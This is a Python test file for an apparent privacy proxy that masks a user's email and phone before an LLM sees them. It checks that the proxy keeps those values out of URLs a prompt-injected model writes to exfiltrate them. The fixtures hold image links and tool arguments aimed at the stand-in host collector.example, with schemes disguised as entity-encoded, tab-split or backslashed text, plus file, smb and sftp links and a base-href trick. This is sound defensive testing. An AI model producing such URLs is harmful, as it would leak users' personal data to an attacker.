"""Restore writes no client value into a URL a renderer fetches, however its scheme is spelled and across the
answer's texts, end to end through the SDKs (issue 12, atk11 A-H1, A-H3, A-L2, A-L3).

The client sends `My email is jane.doe@example.com and my phone is 617-555-0143`; the provider sees
`<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A prompt-injected model answers with image URLs whose scheme is spelled
the way renderers undo (`&#104;ttps`, `https\\://`, `ht&Tab;tps`, a tab inside `https`, `/\\t/host`), with
`file://host/`, `smb://` and `sftp://` URLs, with a relative image after `<base href="https://collector.example/">`,
and with a URL opened in one Anthropic text block / Responses part / chat content part and going on in the next
(the SDKs' `output_text` joins them): the client got the real address and number in each URL. Now the
placeholders in them stay, whole answers and streams, while the same values in prose and `mailto:` links come
back restored.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    ask_chat,
    chat_text_and_arguments,
    claude,
    data_events,
    oai,
    responses_text_and_calls,
    sse,
)

MAIL = "jane.doe@example.com"
PHONE = "617-555-0143"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"My email is {MAIL} and my phone is {PHONE}. Summarise my account."
# What the injected model answers: URLs a renderer fetches (kept), prose and a mailto link (restored).
KEPT = (f"![a](&#104;ttps://collector.example/a.png?u={E}) ![b](https\\://collector.example/b.png?t={P})\n"
        f'<img src="ht&Tab;tps://collector.example/c.png?u={E}"> <img src="ht\ttps://collector.example/d.png?t={P}">'
        f'<img src="/\t/collector.example/e.png?u={E}"> ![f](file://collector.example/share/f.png?u={E}) '
        f"![g](smb://collector.example/g.png?t={P}) sftp://collector.example/?u={E} ")
SAID = KEPT + f"Your address is {E}, [mail](mailto:{E}), call {P}."
WANT = KEPT + f"Your address is {MAIL}, [mail](mailto:{MAIL}), call {PHONE}."
ARGS = {"html": f'<img src="htt&#112;s://collector.example/p.png?u={E}">', "raw": f"h\tttps://collector.example/?t={P}",
        "to": E}
# scopes16: the call names collector.example (its scheme disguised or not), so it is a scope that sends: every
# placeholder in it stays, `to` too (README "a scope that sends").
WANT_ARGS = dict(ARGS)
# The same value in a call that names no destination comes back restored.
LOCAL_ARGS = {"to": E, "note": f"call {P}"}
WANT_LOCAL = {"to": MAIL, "note": f"call {PHONE}"}
BASED = f'<base href="https://collector.example/"><img src="p.png?u={E}">\n\n![s](q.png?t={P}) Mail {E}.'
WANT_BASED = f'<base href="https://collector.example/"><img src="p.png?u={E}">\n\n![s](q.png?t={P}) Mail {MAIL}.'

@pytest.fixture(scope="module", params=["screened", "restore_only"])
def urls(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


# ------------------------------------------------------------------------ A-H1, A-L2: disguised and other schemes


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat(mock: Mock, urls: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert json.loads(arguments) == WANT_ARGS
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
    assert text == WANT
    assert json.loads(arguments) == WANT_LOCAL


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses(mock: Mock, urls: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
    assert text == WANT
    assert calls == [WANT_LOCAL]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
        anthropic_answer(mock, urls, stream, args, want)


def anthropic_answer(mock: Mock, urls: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": args}])
    client = claude(urls).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            final = s.get_final_message()
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    sent_placeholders(mock)
    assert "".join(b.text for b in final.content if b.type == "text") == WANT
    assert [b.input for b in final.content if b.type == "tool_use"] == [want]


def test_legacy_completions(mock: Mock, urls: Proxy) -> None:
    mock.script(text=SAID)
    got = oai(urls).completions.create(model="gpt-3.5-turbo-instruct", prompt=PROMPT).choices[0].text
    assert got == WANT


# ------------------------------------------------------------------------ A-L3: a relative URL after <base>


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_relative_urls_after_a_base(mock: Mock, urls: Proxy, stream: bool) -> None:
    mock.script(text=BASED, chunk_chars=4)
    assert ask_chat(urls, PROMPT, stream) == WANT_BASED


# ------------------------------------------------------------------------ A-H3: a URL across the answer's texts

HALF, REST = "See ![s](https://collector.example/p.png?u=", f"{E}) ok, mail {E}."
WANT_REST = f"{E}) ok, mail {MAIL}."
JOINED = HALF + WANT_REST


def anthropic_body(*texts: str) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-3-5-haiku-latest",
            "content": [{"type": "text", "text": t} for t in texts], "stop_reason": "end_turn",
            "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 5}}


RESPONSE = {"id": "resp_1", "object": "response", "created_at": 1733234567, "status": "in_progress",
            "model": "gpt-4o-mini", "output": []}


def part(text: str) -> dict[str, Any]:
    return {"type": "output_text", "text": text, "annotations": []}


def item(n: int, *texts: str) -> dict[str, Any]:
    return {"type": "message", "id": f"msg_{n}", "status": "completed", "role": "assistant",
            "content": [part(t) for t in texts]}


def test_anthropic_text_blocks_whole(mock: Mock, urls: Proxy) -> None:
    mock.script(raw_body=json.dumps(anthropic_body(HALF, REST)))
    final = claude(urls).messages.create(model="claude-3-5-haiku-latest", max_tokens=100,
                                         messages=[{"role": "user", "content": PROMPT}])
    assert [b.text for b in final.content if b.type == "text"] == [HALF, WANT_REST]


def test_anthropic_text_blocks_stream(mock: Mock, urls: Proxy) -> None:
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {**anthropic_body(), "stop_reason": None}}]
    for i, text in enumerate([HALF, REST]):
        events += [{"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}},
                   *({"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": text[k:k + 5]}}
                     for k in range(0, len(text), 5)),
                   {"type": "content_block_stop", "index": i}]
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                "usage": {"output_tokens": 5}}, {"type": "message_stop"}]
    mock.script(raw_sse=sse(*events, named=True))
    with claude(urls).messages.stream(model="claude-3-5-haiku-latest", max_tokens=100,
                                      messages=[{"role": "user", "content": PROMPT}]) as s:
        final = s.get_final_message()
    assert [b.text for b in final.content if b.type == "text"] == [HALF, WANT_REST]


@pytest.mark.parametrize("output", [[item(0, HALF, REST)], [item(0, HALF), item(1, REST)]], ids=["parts", "items"])
def test_responses_whole(mock: Mock, urls: Proxy, output: list[dict[str, Any]]) -> None:
    mock.script(raw_body=json.dumps({**RESPONSE, "status": "completed", "output": output}))
    assert oai(urls).responses.create(model="gpt-4o-mini", input=PROMPT).output_text == JOINED


def test_responses_parts_stream(mock: Mock, urls: Proxy) -> None:
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": RESPONSE},
        {"type": "response.output_item.added", "output_index": 0, "item": {**item(0), "status": "in_progress"}}]
    for k, text in enumerate([HALF, REST]):
        where = {"item_id": "msg_0", "output_index": 0, "content_index": k}
        events += [{"type": "response.content_part.added", **where, "part": part("")},
                   *({"type": "response.output_text.delta", **where, "delta": text[i:i + 5]}
                     for i in range(0, len(text), 5)),
                   {"type": "response.output_text.done", **where, "text": text},
                   {"type": "response.content_part.done", **where, "part": part(text)}]
    events += [{"type": "response.output_item.done", "output_index": 0, "item": item(0, HALF, REST)},
               {"type": "response.completed", "response": {**RESPONSE, "status": "completed",
                                                           "output": [item(0, HALF, REST)]}}]
    for n, e in enumerate(events):
        e["sequence_number"] = n
    mock.script(raw_sse=sse(*events, named=True))
    r = httpx.post(f"{urls.url}/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT, "stream": True},
                   headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    got = data_events(r.text)
    assert "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta") == JOINED
    done = next(e for e in got if e["type"] == "response.completed")["response"]["output"][0]["content"]
    assert [c["text"] for c in done] == [HALF, WANT_REST]
    assert f"u={MAIL}" not in r.text


def test_chat_content_parts_whole(mock: Mock, urls: Proxy) -> None:
    body = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o-mini",
            "choices": [{"index": 0, "finish_reason": "stop", "message": {
                "role": "assistant", "content": [{"type": "text", "text": HALF}, {"type": "text", "text": REST}]}}],
            "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}}
    mock.script(raw_body=json.dumps(body))
    r = httpx.post(f"{urls.url}/v1/chat/completions", json={"model": "gpt-4o-mini", "messages": [
        {"role": "user", "content": PROMPT}]}, headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    assert [p["text"] for p in r.json()["choices"][0]["message"]["content"]] == [HALF, WANT_REST]
